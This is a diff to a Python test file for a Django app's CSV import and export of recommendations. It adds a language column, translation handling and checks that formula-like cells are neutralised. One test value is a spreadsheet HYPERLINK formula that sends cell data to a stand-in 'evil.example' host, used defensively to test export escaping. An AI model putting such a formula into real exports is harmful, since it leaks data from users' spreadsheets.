@@ -51,6 +51,7 @@ def record(**values: str) -> dict:
         "meeting": "2017-05-12-regular",
         "last_assessment_date": "",
         "url": "https://example.org/ignored/",
+        "language": "en",
         **values,
     }
 
@@ -59,10 +60,17 @@ def run_import(data: bytes):
     return import_recommendations(file=io.BytesIO(data), today=TODAY)
 
 
-def exported(client) -> bytes:
-    response = client.get(reverse("recommendations:export_csv"))
+def exported(client, prefix: str = "") -> bytes:
+    """The public CSV export; `prefix` "/ru" or "/kk" asks for it in that language."""
+    response = client.get(f"{prefix}/recommendations/export.csv")
     assert response.status_code == 200
     return b"".join(response.streaming_content)
+
+
+def texts(reference: str) -> tuple:
+    return Recommendation.objects.values_list("text_en", "text_ru", "text_kk").get(
+        reference=reference
+    )
 
 
 @pytest.fixture
@@ -127,6 +135,8 @@ def test_a_file_with_five_kinds_of_error_lists_each_with_row_and_column_and_writ
         ({"last_assessment_date": "22.10.2021"}, "last_assessment_date", "is not a date"),
         ({"last_assessment_date": "2021-02-30"}, "last_assessment_date", "is not a date"),
         ({"text": "A\x00B"}, "text", "Contains a NUL character."),
+        ({"language": "fr"}, "language", "Unknown language “fr” (use one of: en, ru, kk)."),
+        ({"language": ""}, "language", "Unknown language “” (use one of: en, ru, kk)."),
     ],
 )
 def test_each_bad_value_is_reported_in_its_row_and_column(vocabulary, values, column, message):
@@ -140,7 +150,7 @@ def test_a_row_with_the_wrong_number_of_fields_is_reported_as_malformed(vocabula
     data = csv_bytes([record()]) + b"CAB-2017-002,2017,not_assessed\r\n"
     result = run_import(data)
     assert [(p.row, p.column, p.message) for p in result.problems] == [
-        (3, "", "Expected 10 fields as in the header, found 3.")
+        (3, "", "Expected 11 fields as in the header, found 3.")
     ]
     assert not Recommendation.objects.exists()
 
@@ -291,12 +301,8 @@ def test_importing_again_updates_records_by_reference_instead_of_duplicating(voc
     assert (result.created, result.updated, result.assessments_added) == (1, 1, 1)
     assert Recommendation.objects.count() == 2
     rec.refresh_from_db()
-    assert (rec.text, rec.year, rec.meeting, rec.status) == (
-        "Amended text.",
-        2018,
-        None,
-        "implemented",
-    )
+    assert (rec.text, rec.year, rec.status) == ("Amended text.", 2018, "implemented")
+    assert rec.meeting.slug == "2017-05-12-regular"  # a blank meeting cell changes no link
     assert list(rec.topics.values_list("slug", flat=True)) == ["children"]
     assert list(rec.responsible_bodies.values_list("slug", flat=True)) == ["supreme-court"]
     # The history gained an entry; the earlier one is still there as it was.
@@ -304,6 +310,48 @@ def test_importing_again_updates_records_by_reference_instead_of_duplicating(voc
         (datetime.date(2021, 10, 22), "implemented"),
         (datetime.date(2019, 3, 1), "in_progress"),
     ]
+
+
+def test_importing_the_public_export_keeps_a_link_to_a_draft_meeting(client, vocabulary):
+    # The public export leaves the meeting blank while it is a draft.
+    draft = factories.meeting(slug="2024-03-01-draft", is_published=False)
+    item = factories.agenda_item(meeting=draft)
+    rec = factories.recommendation(reference="CAB-2024-001", meeting=draft, agenda_item=item)
+    data = exported(client)
+    assert [row["meeting"] for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))] == [""]
+
+    result = import_recommendations(file=io.BytesIO(data))
+
+    assert (result.problems, result.updated, result.unchanged) == ([], 0, 1)
+    rec.refresh_from_db()
+    assert (rec.meeting, rec.agenda_item) == (draft, item)
+
+
+def test_an_export_taken_while_the_meeting_was_a_draft_keeps_the_link_once_it_is_published(
+    client, vocabulary
+):
+    draft = factories.meeting(slug="2024-03-01-draft", is_published=False)
+    item = factories.agenda_item(meeting=draft)
+    rec = factories.recommendation(reference="CAB-2024-001", meeting=draft, agenda_item=item)
+    data = exported(client)
+    Meeting.objects.filter(pk=draft.pk).update(is_published=True)
+
+    result = import_recommendations(file=io.BytesIO(data))
+
+    assert (result.problems, result.updated, result.unchanged) == ([], 0, 1)
+    rec.refresh_from_db()
+    assert (rec.meeting, rec.agenda_item) == (draft, item)
+
+
+def test_a_meeting_slug_still_moves_a_record_and_drops_the_old_meetings_agenda_item(vocabulary):
+    draft = factories.meeting(slug="2024-03-01-draft", is_published=False)
+    rec = factories.recommendation(
+        reference="CAB-2017-001", meeting=draft, agenda_item=factories.agenda_item(meeting=draft)
+    )
+    result = run_import(csv_bytes([record(meeting="2017-05-12-regular")]))
+    assert (result.problems, result.updated) == ([], 1)
+    rec.refresh_from_db()
+    assert (rec.meeting.slug, rec.agenda_item) == ("2017-05-12-regular", None)
 
 
 def test_importing_the_same_file_twice_changes_nothing_the_second_time(vocabulary):
@@ -369,6 +417,64 @@ def test_a_reference_created_meanwhile_by_someone_else_rolls_the_whole_import_ba
     ]
 
 
+# The language of each text ---------------------------------------------------------------
+
+
+def test_each_text_is_imported_into_the_language_its_row_names(vocabulary):
+    factories.recommendation(reference="CAB-2017-001", text="English text.")
+    rows = [
+        record(reference="CAB-2017-001", text="Русский текст.", language="ru"),
+        record(reference="CAB-2017-002", text="Қазақша мәтін.", language="kk"),
+    ]
+    result = run_import(csv_bytes(rows))
+    assert (result.problems, result.created, result.updated) == ([], 1, 1)
+    assert texts("CAB-2017-001") == ("English text.", "Русский текст.", None)
+    assert texts("CAB-2017-002") == (None, None, "Қазақша мәтін.")
+
+
+def test_a_russian_export_with_an_edited_text_changes_only_the_russian_text(client, vocabulary):
+    factories.recommendation(reference="CAB-2017-001", text="English text.", text_ru="Старый.")
+    data = exported(client, "/ru").decode("utf-8").replace("Старый.", "Новый.").encode()
+    result = import_recommendations(file=io.BytesIO(data))
+    assert (result.problems, result.updated) == ([], 1)
+    assert texts("CAB-2017-001") == ("English text.", "Новый.", None)
+
+
+def test_a_text_shown_through_the_fallback_is_not_imported_as_a_translation(client, vocabulary):
+    factories.recommendation(reference="CAB-2017-001", text="Only in English.")
+    factories.recommendation(reference="CAB-2017-002", text="", text_ru="Только по-русски.")
+    for prefix in ("/ru", "/kk"):
+        result = import_recommendations(file=io.BytesIO(exported(client, prefix)))
+        assert (result.problems, result.updated, result.unchanged) == ([], 0, 2)
+    assert texts("CAB-2017-001") == ("Only in English.", None, None)
+    assert texts("CAB-2017-002") == ("", "Только по-русски.", None)
+
+
+@pytest.mark.parametrize("prefix", ["", "/ru", "/kk"])
+def test_importing_the_export_in_any_language_changes_nothing(client, demo, prefix):
+    factories.recommendation(reference="CAB-2024-001", text="In English.", text_ru="По-русски.")
+    factories.recommendation(reference="CAB-2024-002", text="", text_kk="Қазақша.")
+    factories.recommendation(reference="CAB-2024-003", text="All.", text_ru="Все.", text_kk="Бәрі.")
+    columns = ("reference", "text", "text_en", "text_ru", "text_kk", "year", "meeting", "updated")
+    stored = Recommendation.objects.rewrite(False).order_by("pk")  # the columns, as stored
+    before = list(stored.values_list(*columns))
+
+    result = import_recommendations(file=io.BytesIO(exported(client, prefix)))
+
+    assert result.problems == []
+    assert (result.updated, result.assessments_added) == (0, 0)
+    assert result.unchanged == Recommendation.objects.published().count()
+    assert list(stored.values_list(*columns)) == before
+
+
+def test_a_file_without_the_language_column_is_imported_as_english(vocabulary):
+    factories.recommendation(reference="CAB-2017-001", text="Old.", text_ru="Русский.")
+    columns = [c for c in COLUMNS if c != "language"]
+    result = run_import(csv_bytes([record(text="New.")], columns=columns))
+    assert (result.problems, result.updated) == ([], 1)
+    assert texts("CAB-2017-001") == ("New.", "Русский.", None)
+
+
 # Export → import round trip ------------------------------------------------------------
 
 
@@ -395,6 +501,54 @@ def test_export_then_import_into_an_emptied_database_gives_the_same_export(clien
     after = exported(client)
     assert after.decode("utf-8").splitlines() == before.decode("utf-8").splitlines()
     assert after == before
+
+
+# Texts that begin like a formula (the export prefixes them with a quote) and texts that
+# genuinely begin with a quote (prefixed too, so that the prefix is never ambiguous).
+FORMULA_LIKE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "+7 (7172) 72-00-00",
+    "-1 day",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage return",
+    "\nline feed",
+    "'quoted'",
+    "''twice",
+    "'=already quoted",
+]
+
+
+def test_texts_that_begin_like_a_formula_survive_export_and_import_byte_for_byte(
+    client, vocabulary
+):
+    topic = factories.topic(slug="-minus-first")
+    for n, text in enumerate(FORMULA_LIKE, start=1):
+        rec = factories.recommendation(reference=f"CAB-2020-{n:03d}", text=text)
+        rec.topics.add(topic)
+    before = exported(client)
+    assert "'=HYPERLINK(" in before.decode()  # neutralised in the file
+
+    result = import_recommendations(file=io.BytesIO(before))  # over the same records
+    assert (result.problems, result.updated) == ([], 0)
+    Recommendation.topics.through.objects.all().delete()
+    Recommendation.objects.all().delete()
+    result = import_recommendations(file=io.BytesIO(before))  # into an emptied database
+
+    assert (result.problems, result.created) == ([], len(FORMULA_LIKE))
+    assert sorted(Recommendation.objects.values_list("text_en", flat=True)) == sorted(FORMULA_LIKE)
+    assert set(
+        Topic.objects.filter(recommendations__isnull=False).values_list("slug", flat=True)
+    ) == {"-minus-first"}
+    assert exported(client) == before
+
+
+def test_a_file_from_before_the_language_column_keeps_a_leading_quote(vocabulary):
+    # Such files were written before cells were neutralised: a quote there is the text's own.
+    columns = [c for c in COLUMNS if c != "language"]
+    result = run_import(csv_bytes([record(text="'Quoted' text.")], columns=columns))
+    assert (result.problems, result.created) == ([], 1)
+    assert Recommendation.objects.get().text_en == "'Quoted' text."
 
 
 # The command -----------------------------------------------------------------------------
@@ -559,6 +713,7 @@ def synthetic_csv(
                 "last_assessment_date": f"{year + 1}-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}"
                 if assessed
                 else "",
+                "language": "en",
             }
         )
     return csv_bytes(rows)
